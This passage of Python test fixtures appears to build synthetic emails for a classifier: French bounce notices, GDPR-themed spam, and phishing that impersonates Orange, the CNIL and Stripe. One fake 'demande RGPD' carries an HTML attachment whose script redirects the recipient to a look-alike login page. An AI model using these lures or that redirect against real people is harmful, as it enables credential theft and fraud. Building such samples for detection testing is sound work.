                   ("Action", "failed"), ("Status", "5.1.10"),
                   ("Diagnostic-Code", "smtp; 550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup")],
    headers_only=True,
    orig=dict(frm='"Sandra - Floraison de Soi" <contact@floraisondesoi.fr>',
              to="mathilde.garnier@hotmail.fr",
              subject="🌱 La Lettre de Floraison – Avril : oser dire non",
              date="2025-04-14 07:00",
              body="(newsletter)\n"))),

M("fr.bounce-free-boite-pleine", [],
  '"Mail Delivery System" <MAILER-DAEMON@smtp-out.orange.fr>',
  "Échec de la remise : Rappel : votre séance du mardi 14 octobre",
  "",
  date="2025-10-12 18:05", to=SANDRA_ADDR,
  hdr=[("Auto-Submitted", "auto-replied")],
  bounce=dict(
    text="""\
Votre message n'a pas pu être remis au destinataire suivant après plusieurs tentatives :

  paul.hebert@free.fr
    Boîte aux lettres pleine (quota dépassé)

Le message original est joint.
""",
    per_message=[("Reporting-MTA", "dns; smtp-out.orange.fr"),
                 ("Arrival-Date", "Fri, 10 Oct 2025 18:00:14 +0200")],
    per_recipient=[("Final-Recipient", "rfc822; paul.hebert@free.fr"),
                   ("Action", "failed"), ("Status", "5.2.2"),
                   ("Remote-MTA", "dns; mx1.free.fr"),
                   ("Diagnostic-Code", "smtp; 552 5.2.2 Mailbox full")],
    orig=dict(frm="Sandra Delomenie <sandra.delomenie@orange.fr>",
              to="Paul Hébert <paul.hebert@free.fr>",
              subject="Rappel : votre séance du mardi 14 octobre",
              date="2025-10-10 18:00",
              body="Bonjour Paul,\n\nPetit rappel pour notre séance de mardi 14 octobre à 14h. Pensez à apporter votre carnet d'exercices.\n\nÀ mardi,\nSandra\n"))),

# ------------------------------------------------------------------ spam and phishing
M("fr.spam-site-non-conforme-amende", [],
  '"Cabinet Conformité Express" <audit@conformite-express-rgpd.com>',
  "⚠️ floraisondesoi.fr : NON CONFORME au RGPD – risque d'amende",
  """\
Madame, Monsieur,

Suite à une analyse automatisée, votre site floraisondesoi.fr présente 7 non-conformités au Règlement Général sur la Protection des Données (RGPD) :

❌ Absence de registre des traitements
❌ Bandeau cookies non conforme
❌ Absence de procédure de gestion des demandes d'accès et d'effacement
❌ Mentions légales incomplètes

Les sanctions peuvent atteindre 20 millions d'euros ou 4 % du chiffre d'affaires.

👉 Mettez-vous en conformité en 48 h pour seulement 390 € HT (au lieu de 890 €) : https://conformite-express-rgpd.com/offre

Cet email vous est envoyé dans le cadre de notre activité de prospection B2B (intérêt légitime). Pour vous opposer à la réception de nos messages, répondez STOP.
""",
  date="2025-02-10 06:12", fmt="html", to=SANDRA_ADDR,
  hdr=[("List-Unsubscribe", "<mailto:stop@conformite-express-rgpd.com>"), ("Precedence", "bulk")]),

M("fr.phishing-orange-boite-supprimee", [],
  '"Orange Messagerie" <securite@orange-messagerie-service.com>',
  "Votre boîte mail sera supprimée sous 24h",
  """\
Cher(e) client(e) Orange,

Suite à une mise à jour de nos serveurs, votre boîte aux lettres sandra.delomenie@orange.fr sera supprimée définitivement dans les 24 heures ainsi que l'ensemble de vos données (messages, contacts, pièces jointes).

Pour conserver l'accès à votre compte, veuillez confirmer vos informations personnelles en cliquant sur le lien ci-dessous :

>> Confirmer mes données : http://orange-fr.verif-compte-client.info/login

Sans action de votre part, nous ne pourrons pas récupérer vos messages.

Service Client Orange
© Orange 2025
""",
  date="2025-06-22 03:47", fmt="html", to=SANDRA_ADDR, mid="generic"),

M("fr.phishing-faux-cnil-controle", [],
  '"CNIL – Contrôle" <controle@cnil-gouv-conformite.fr>',
  "AVIS DE CONTRÔLE – Régularisez votre registre RGPD sous 48h",
  """\
COMMISSION NATIONALE DE L'INFORMATIQUE ET DES LIBERTÉS

Dossier n° CTRL-2025-36100-887

Madame, Monsieur,

Votre entreprise a été sélectionnée pour un contrôle de conformité au RGPD. À défaut de régularisation sous 48 heures, une procédure de sanction pourra être engagée.

Pour éviter la sanction, veuillez télécharger votre registre de conformité et régler les frais de dossier (149 €) via le lien sécurisé ci-dessous :

https://cnil-gouv-conformite.fr/regularisation?dossier=887

Le service des contrôles
""",
  date="2025-09-08 05:21", fmt="html", to=SANDRA_ADDR),

M("fr.spam-formation-dpo-cpf", [],
  '"Formation Pro Eligible" <info@formapro-eligible.net>',
  "Devenez DPO en 2 jours – 100 % financé par votre CPF",
  """\
Bonjour,

Le RGPD vous donne des sueurs froides ? Demandes d'accès, droit à l'effacement, registre, consentement… Devenez vous-même Délégué(e) à la Protection des Données !

✔ Formation 100 % en ligne – 14 heures
✔ Certificat reconnu
✔ Finançable CPF – 0 € de reste à charge*

Places limitées : inscrivez-vous avant vendredi.

*sous réserve d'éligibilité. Pour vous désinscrire, cliquez ici.
""",
  date="2026-04-09 12:12", fmt="alt", to=SANDRA_ADDR,
  hdr=lu("http://formapro-eligible.net/unsub?e=b24", one_click=False)),

M("en.spam-gdpr-audit-offer", [],
  "Kevin from ComplyFast <kevin@complyfast-gdpr.io>",
  "Quick question about floraisondesoi.fr",
  """\
Hi there,

I noticed floraisondesoi.fr collects personal data through its contact form and newsletter signup. Are you confident you could respond to a data subject access or erasure request within the 30-day deadline?

Our GDPR Compliance Audit (limited time: €199 instead of €599) gives you a full report plus ready-made templates for handling access, deletion and portability requests.

Worth a 15-minute call this week?

Best,
Kevin
ComplyFast

If you'd rather not hear from me again, just reply "no thanks".
""",
  date="2025-08-12 15:55", to="contact@floraisondesoi.fr"),

M("en.phishing-stripe-account-restricted", [],
  '"Stripe Support" <support@stripe-account-verify.com>',
  "Action required: Your Stripe account has been restricted",
  """\
Dear Customer,

We have temporarily restricted your Stripe account due to unusual activity. Payouts are on hold until your identity has been verified.

To restore full access, please verify your identity and banking details within 24 hours:

https://stripe-account-verify.com/verify?acct=floraisondesoi

If you do not complete verification, your account and associated data will be permanently closed.

Stripe Trust & Safety
""",
  date="2025-12-14 02:30", fmt="html", to=SANDRA_ADDR),

# NEAR-LINE: phishing dressed up as a data-subject request ("demande RGPD en pièce jointe")
# with no identifiable person and an HTML-file lure -> negative.
M("fr.phishing-faux-dsr-piece-jointe", [],
  '"Service Client" <service.client@document-partage-securise.net>',
  "Demande RGPD – document à consulter",
  """\
Bonjour,

Une demande de suppression de données personnelles vous a été adressée via notre plateforme sécurisée.

Veuillez consulter le document joint (Demande_RGPD.html) et vous identifier avec votre messagerie pour y accéder. Le document expirera sous 48 heures.

Cordialement,
Service de partage sécurisé
""",
  date="2026-05-19 04:05", to=SANDRA_ADDR,
  att=[("Demande_RGPD.html", "htm", "<html><body><script>window.location='http://document-partage-securise.net/o365/login.php?u=sandra.delomenie@orange.fr'</script><p>Chargement du document...</p></body></html>\n")]),

]
